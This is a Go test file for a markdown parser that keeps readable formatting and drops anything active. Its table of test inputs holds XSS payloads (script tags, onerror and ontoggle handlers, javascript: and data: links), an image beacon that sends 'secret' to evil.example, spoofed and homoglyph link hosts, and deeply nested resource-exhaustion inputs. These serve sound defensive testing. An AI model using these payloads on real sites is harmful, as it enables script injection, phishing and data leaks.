package markdown

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// show writes blocks down as a test reads them.
func show(list []Block) string {
	var b strings.Builder
	spans := func(list []Span) {
		for _, s := range list {
			text := s.Text
			for _, style := range []struct {
				is   bool
				mark string
			}{{s.Code, "code"}, {s.Strike, "s"}, {s.Em, "i"}, {s.Strong, "b"}} {
				if style.is {
					text = style.mark + "(" + text + ")"
				}
			}
			if s.URL != "" {
				text = fmt.Sprintf("link(%s, %s, %s)", text, s.URL, s.Host)
			}
			if s.Break {
				text = "/"
			}
			b.WriteString(text)
		}
	}
	for i, block := range list {
		if i > 0 {
			b.WriteString(" | ")
		}
		switch block.Kind {
		case Paragraph:
			spans(block.Spans)
		case Heading:
			b.WriteString("# ")
			spans(block.Spans)
		case List:
			mark := "-"
			if block.Ordered {
				mark = fmt.Sprint(block.Start, ".")
			}
			for _, item := range block.Items {
				fmt.Fprintf(&b, "%s[%s]", mark, show(item))
			}
		case Quote:
			fmt.Fprintf(&b, ">[%s]", show(block.Blocks))
		case Code:
			fmt.Fprintf(&b, "pre(%s)", block.Text)
		case Rule:
			b.WriteString("---")
		case Table:
			for _, row := range block.Rows {
				b.WriteString("row")
				for _, cell := range row {
					b.WriteString("(")
					spans(cell)
					b.WriteString(")")
				}
			}
		}
	}
	return b.String()
}

// R: Q4
// case: abuse A02
// case: abuse A03
func TestWhatHelpsToReadIsKeptAndNothingThatActs(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"":                                    "",
		"Just a sentence.":                    "Just a sentence.",
		"One.\nTwo.\n\nThree.":                "One./Two. | Three.",
		"**Bold**, *so* and ~~no~~":           "b(Bold), i(so) and s(no)",
		"***both***":                          "b(i(both))",
		"`a * b` and \\*stars\\*":             "code(a * b) and *stars*",
		"# Approved by Dana":                  "# Approved by Dana",
		"- one\n- two\n  - deeper":            "-[one]-[two | -[deeper]]",
		"3. three\n4. four":                   "3.[three]3.[four]",
		"> said\n> so":                        ">[said/so]",
		"```sql\nselect *\n```":               "pre(select *)",
		"a\n\n***\n\nb":                       "a | --- | b",
		"| a | b |\n|---|---|\n| 1 | **2** |": "row(a)(b)row(1)(b(2))",
		"Order 4711_8812_1 costs 3 * 4 * 5":   "Order 4711_8812_1 costs 3 * 4 * 5",
		"&lt;b&gt; &#x202e;":                  "&lt;b&gt; &#x202e;", // what was taken out doesn't come back by its number

		"<script>alert(1)</script>":                                      "<script>alert(1)</script>",
		"<img src=x onerror=alert(1)> and <b>":                           "<img src=x onerror=alert(1)> and <b>",
		"<details open ontoggle=alert(1)>x":                              "<details open ontoggle=alert(1)>x",
		"<!-- hidden -->":                                                "<!-- hidden -->",
		"![pixel](https://evil.example/?d=secret)":                       "pixel",
		"[![pixel](https://evil.example/a.png)](https://evil.example/b)": "link(pixel, https://evil.example/b, evil.example)",
		"[bank.example](https://evil.example/login)":                     "link(bank.example, https://evil.example/login, evil.example)",
		"see https://shop.example/orders/1 now":                          "see link(https://shop.example/orders/1, https://shop.example/orders/1, shop.example) now",
		"<https://shop.example/a>":                                       "link(https://shop.example/a, https://shop.example/a, shop.example)",
		"[x](javascript:alert(1))":                                       "x",
		"[x](JaVaScRiPt:alert(1))":                                       "x",
		"[x](data:text/html,hi)":                                         "x",
		"[x](//evil.example)":                                            "x",
		"[x](/sessions)":                                                 "x",
		"[x](https://bank.example@evil.example/)":                        "x",
		"[x](https://bаnk.example/)":                                     "x", // with a Cyrillic a
		"[x](https://paypal.com;.evil.example/)":                         "x",
		"[x](https://paypal.com'.evil.example/)":                         "x",
		"[x](https://good.com%25evil.example/)":                          "x",
		"[x](https://2130706433/)":                                       "x",
		"[x](https://xn--pple-43d.com/)":                                 "x",
		"[x](https://10.0.0.7:8443/a)":                                   "link(x, https://10.0.0.7:8443/a, 10.0.0.7:8443)",
		"[x][y]\n\n[y]: https://shop.example 'title'":                    "link(x, https://shop.example, shop.example)",
	} {
		if got := show(Parse(source)); got != want {
			t.Errorf("%q is %q, want %q", source, got, want)
		}
	}
}

// R: Q4
func TestTextBeyondTheBoundsStaysText(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("**word** ", mostBytes/9+1) + "\nend"
	if got := show(Parse(long)); got != strings.Replace(long, "\n", "/", 1) {
		t.Errorf("a long text is %q...", got[:40])
	}
	for name, deep := range map[string]string{
		"quotes":   strings.Repeat("> ", 5000) + "deep",
		"lists":    strings.Repeat("- ", 5000) + "deep",
		"emphasis": strings.Repeat("*a ", 2500) + strings.Repeat("b* ", 2500),
		"brackets": strings.Repeat("[", 15000) + "deep",
	} {
		if got := Parse(deep); depth(got) > mostDepth+1 {
			t.Errorf("%s are %d deep", name, depth(got))
		}
	}
}

// The rows of a table are filled up to its head's width: a short text must not
// become a huge page.
// R: Q4
func TestATableIsBoundedBeforeItIsRead(t *testing.T) {
	t.Parallel()
	for _, before := range []string{"", "> ", "- "} {
		rest := strings.Replace(before, "-", " ", 1)
		for columns := 2; columns < 2000; columns *= 3 {
			for rows := 1; rows < 2000; rows *= 3 {
				source := before + strings.Repeat("|a", columns) + "|\n" + rest + strings.Repeat("|-", columns) + "|\n" + strings.Repeat(rest+"|b\n", rows)
				if n := len(strings.Split(show(Parse(source)), "(")); n > mostCells+columns+10 {
					t.Fatalf("%d columns and %d rows in %d bytes are %d cells", columns, rows, len(source), n)
				}
			}
		}
	}
	ordinary := "| a | b | c |\n|---|---|---|\n" + strings.Repeat("| 1 | 2 | 3 |\n", 60)
	if list := Parse(ordinary); len(list) != 1 || list[0].Kind != Table || len(list[0].Rows) != 61 {
		t.Error("an ordinary table is not read")
	}
}

func depth(list []Block) (deepest int) {
	for _, b := range list {
		deepest = max(deepest, 1+depth(b.Blocks))
		for _, item := range b.Items {
			deepest = max(deepest, 1+depth(item))
		}
	}
	return deepest
}

// Whatever is written: nothing leads elsewhere than to the web, reading it again
// is the same, and no text is made of nothing.
func FuzzParse(f *testing.F) {
	for _, seed := range []string{"# a\n- b\n> c", "[a](http://b)", "| a |\n|-|\n| b |", "<b>", "![](x)", "\\*", "&amp;", "***a** b*"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, source string) {
		list := Parse(source)
		if !reflect.DeepEqual(list, Parse(source)) {
			t.Error("read again it is something else")
		}
		check(t, list)
	})
}

func check(t *testing.T, list []Block) {
	t.Helper()
	spans := func(list []Span) {
		for _, s := range list {
			if s.URL != "" && !strings.HasPrefix(s.URL, "http://") && !strings.HasPrefix(s.URL, "https://") || (s.URL == "") != (s.Host == "") {
				t.Errorf("a link to %q of %q", s.URL, s.Host)
			}
		}
	}
	for _, b := range list {
		spans(b.Spans)
		check(t, b.Blocks)
		for _, item := range b.Items {
			check(t, item)
		}
		for _, row := range b.Rows {
			for _, cell := range row {
				spans(cell)
			}
		}
	}
}
